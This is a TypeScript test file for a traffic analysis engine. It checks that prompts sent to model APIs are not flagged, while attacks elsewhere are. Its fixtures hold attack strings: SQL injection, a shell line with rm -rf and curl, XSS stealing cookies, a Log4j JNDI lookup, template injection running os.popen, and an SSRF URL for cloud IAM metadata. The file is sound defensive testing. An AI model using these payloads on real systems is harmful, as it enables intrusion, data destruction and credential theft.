import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { buildExchange } from '@/test/fixtures/traffic';

const context = { sensorId: 'sensor-1', sensorTags: [] };

/** The rule ids a JSON POST matches at level 4 (every hit reported). */
function ids(body: unknown, target = '/v1/chat/completions'): number[] {
  const engine = createAnalysisEngine({ catalog: false, detectionLevel: 4 });
  const events = engine.analyze(
    buildExchange({
      method: 'POST',
      target,
      host: 'llm-gateway.example.com',
      requestHeaders: [['Content-Type', 'application/json']],
      requestBody: JSON.stringify(body),
    }),
    context,
  );
  const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
  return match === undefined ? [] : [...new Set(match.matches.map((m) => m.id))];
}

const SQL_QUESTION = 'Why does \' OR 1=1-- log me in as admin when my query is built as "SELECT * FROM users WHERE name=\'" + name + "\'"?';
const SHELL_PASTE = 'my deploy fails:\n$ cat /etc/passwd | grep deploy; rm -rf /tmp/build && curl http://10.0.0.5/hook';

describe('prompt text in a request to a model API', () => {
  it.each([
    ['a chat message', { model: 'gpt-4o-mini', messages: [{ role: 'user', content: SQL_QUESTION }] }],
    ['a content part', { model: 'claude-sonnet-4', messages: [{ role: 'user', content: [{ type: 'text', text: SHELL_PASTE }] }] }],
    ['a tool result', { model: 'claude-sonnet-4', messages: [{ role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: SHELL_PASTE }] }] }],
    ['an embeddings input', { model: 'text-embedding-3-small', input: [SQL_QUESTION, SHELL_PASTE] }],
  ])('is not read for SQL, commands, paths or URLs: %s', (_name, body) => {
    expect(ids(body)).toEqual([]);
  });

  it('names the model in the path for Bedrock, Gemini and Azure OpenAI', () => {
    expect(ids({ messages: [{ role: 'user', content: [{ text: SHELL_PASTE }] }] }, '/model/anthropic.claude-3-haiku-20240307-v1%3A0/converse')).toEqual([]);
    expect(ids({ contents: [{ role: 'user', parts: [{ text: SQL_QUESTION }] }] }, '/v1beta/models/gemini-2.0-flash:generateContent')).toEqual([]);
    expect(ids({ messages: [{ role: 'user', content: SHELL_PASTE }] }, '/openai/deployments/gpt4o-prod/chat/completions')).toEqual([]);
  });

  it('is read as before where no model is named: the same fields of an ordinary API', () => {
    expect(ids({ messages: [{ role: 'user', content: SQL_QUESTION }] }, '/api/support/tickets').length).toBeGreaterThan(0);
    // A `model` field brought along to another route is no sign.
    expect(ids({ model: 'gpt-4o', input: SQL_QUESTION }, '/api/search').length).toBeGreaterThan(0);
    expect(ids({ model: '<script>', messages: [{ role: 'user', content: SHELL_PASTE }] }).length).toBeGreaterThan(0);
  });

  it('is still read for stored XSS and Log4j lookups, and a template expression in instructions', () => {
    const xss = ids({ model: 'gpt-4o', messages: [{ role: 'user', content: 'hi <img src=x onerror=alert(document.cookie)>' }] });
    expect(xss.some((id) => Math.floor(id / 100) === 2001)).toBe(true);
    expect(ids({ model: 'gpt-4o', messages: [{ role: 'user', content: '${jndi:ldap://203.0.113.7:1389/a}' }] })).toContain(800101);
    const template = "Greet {{ user }}. {{ url_for.__globals__['os'].popen('id').read() }}";
    expect(ids({ model: 'gpt-4o', name: 'Helpdesk', instructions: template }, '/api/assistants').length).toBeGreaterThan(0);
  });

  it('reads what reaches an interpreter in the same request: tool-call arguments and media URLs', () => {
    const toolCall = {
      model: 'gpt-4o',
      messages: [
        { role: 'user', content: 'find the product' },
        {
          role: 'assistant',
          tool_calls: [{ id: 'c1', type: 'function', function: { name: 'search', arguments: '{"q":"x\' UNION SELECT password FROM users--"}' } }],
        },
      ],
    };
    expect(ids(toolCall).length).toBeGreaterThan(0);
    const image = {
      model: 'gpt-4o',
      messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'http://169.254.169.254/latest/meta-data/iam/' } }] }],
    };
    expect(ids(image).length).toBeGreaterThan(0);
  });
});
